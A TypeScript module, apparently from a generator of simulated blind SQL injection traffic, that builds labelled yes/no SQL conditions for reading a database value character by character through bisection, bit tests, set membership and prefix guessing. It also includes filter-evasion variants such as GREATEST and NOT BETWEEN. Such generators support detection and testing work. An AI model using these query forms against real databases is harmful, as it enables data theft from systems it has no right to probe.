import type { Strategy, Tamper } from '../options.ts';
import type { Random } from '../random.ts';
import type { Grammar } from './dialect.ts';

/** An expression the intruder wants to know: its text in SQL, and what the database would say. */
export type Wanted = { readonly text: string; readonly value: string };

/** A yes-no question and its true answer. */
export type Question = { readonly text: string; readonly holds: boolean };

/** Asks questions; the caller sends each and returns the answer; the return value is what was learned. */
export type Reading = Generator<Question, string, boolean>;

export type ReadingSetting = {
  readonly grammar: Grammar;
  readonly strategy: Strategy;
  readonly tamper: Tamper;
  readonly random: Random /** Values met before in the same column. */;
  readonly met: readonly string[];
};

/** Read one value to its end with one of the strategies that tools and people use. */
export function* readValue(wanted: Wanted, s: ReadingSetting): Reading {
  const { grammar: g } = s;
  for (const guess of s.met.slice(-3)) if (yield { text: `${wanted.text}=${g.literal(guess)}`, holds: wanted.value === guess }) return guess;
  const codes = g.codes(wanted.value);
  if (s.strategy === 'prefix') return yield* readPrefix(wanted, s);
  const known: number[] = [];
  if (s.strategy === 'length-first') {
    const length = yield* bisect(n => ({ text: `${g.length(wanted.text)}>${n}`, holds: codes.length > n }), 0, 64, 4096);
    for (let p = 1; p <= length; p++) known.push(yield* readByBisection(wanted, s, p, codes[p - 1] ?? 0));
    return g.text(known);
  }
  for (let p = 1; ; p++) {
    const code = codes[p - 1] ?? 0;
    const read =
      s.strategy === 'sets'
        ? yield* readBySets(wanted, s, p, code)
        : s.strategy === 'bits'
          ? yield* readByBits(wanted, s, p, code)
          : yield* readByBisection(wanted, s, p, code);
    if (read === 0) return g.text(known);
    known.push(read);
  }
}

/** Smallest n in 0…top with not (x > n), first within `near`, then wider. */
function* bisect(ask: (n: number) => Question, lo: number, near: number, top: number): Generator<Question, number, boolean> {
  let low = lo;
  let high = near;
  while (high < top && (yield ask(high))) {
    low = high + 1;
    high = Math.min(top, high * 16 + 15);
  }
  while (low < high) {
    const mid = Math.floor((low + high) / 2);
    if (yield ask(mid)) low = mid + 1;
    else high = mid;
  }
  return low;
}

function above(wanted: Wanted, s: ReadingSetting, p: number, n: number, code: number): Question {
  const { grammar: g } = s;
  if (s.tamper === 'greatest' && g.name !== 'mssql' && g.name !== 'sqlite') {
    const c = g.code(wanted.text, p);
    return { text: `GREATEST(${c},${n + 1})=${c}`, holds: code > n };
  }
  return { text: s.tamper === 'between' ? `${g.code(wanted.text, p)} NOT BETWEEN 0 AND ${n}` : g.greater(wanted.text, p, n), holds: code > n };
}

function* readByBisection(wanted: Wanted, s: ReadingSetting, p: number, code: number): Generator<Question, number, boolean> {
  return yield* bisect(n => above(wanted, s, p, n, code), 0, 127, s.grammar.highest);
}

/** Likely characters first, in halves of equal weight; what is not in the alphabet falls back to bisection. */
const alphabet = [...'0123456789aeinorstluchdmpgbfyvkwxzjqAEINORSTLUCHDMPGBFYVKWXZJQ-_@. :/()+,;=!?#$%&*<>[]^`{|}~"\'\\'].map(c => c.charCodeAt(0));

function* readBySets(wanted: Wanted, s: ReadingSetting, p: number, code: number): Generator<Question, number, boolean> {
  let set = alphabet;
  const ask = (list: readonly number[]): Question => ({ text: `${s.grammar.code(wanted.text, p)} IN (${list.join(',')})`, holds: list.includes(code) });
  if (!(yield ask(set))) return yield* readByBisection(wanted, s, p, code);
  while (set.length > 1) {
    const cut = Math.max(1, Math.floor(set.length * 0.4));
    set = (yield ask(set.slice(0, cut))) ? set.slice(0, cut) : set.slice(cut);
  }
  return set[0]!;
}

function* readByBits(wanted: Wanted, s: ReadingSetting, p: number, code: number): Generator<Question, number, boolean> {
  const wide = yield above(wanted, s, p, 127, code);
  let read = 0;
  for (let bit = 0; bit < (wide ? Math.ceil(Math.log2(s.grammar.highest)) : 7); bit++) {
    const mask = 2 ** bit;
    if (yield { text: s.grammar.bit(wanted.text, p, mask), holds: Math.floor(code / mask) % 2 === 1 }) read += mask;
  }
  return read;
}

/** Guess the beginning letter by letter: LEFT(), LIKE or a regular expression. Only for values of digits and small letters. */
function* readPrefix(wanted: Wanted, s: ReadingSetting): Reading {
  const { grammar: g } = s;
  const form = s.random.int(0, 2);
  const starts = (text: string): Question => ({
    holds: wanted.value.startsWith(text),
    text:
      form === 0
        ? `${g.left(wanted.text, text.length)}='${text}'`
        : form === 1 || (g.name !== 'mysql' && g.name !== 'postgresql')
          ? `${wanted.text} LIKE '${text}%'`
          : g.name === 'mysql'
            ? `${wanted.text} REGEXP '^${text}'`
            : `${wanted.text} ~ '^${text}'`,
  });
  let known = '';
  grow: for (;;) {
    if (known !== '' && (yield { text: `${wanted.text}='${known}'`, holds: wanted.value === known })) return known;
    for (const c of '0123456789abcdefghijklmnopqrstuvwxyz') {
      if (yield starts(known + c)) {
        known += c;
        continue grow;
      }
    }
    return known;
  }
}

/** True when the `prefix` strategy can read a value. */
export const plainEnough = (value: string): boolean => /^[0-9a-z]+$/.test(value);
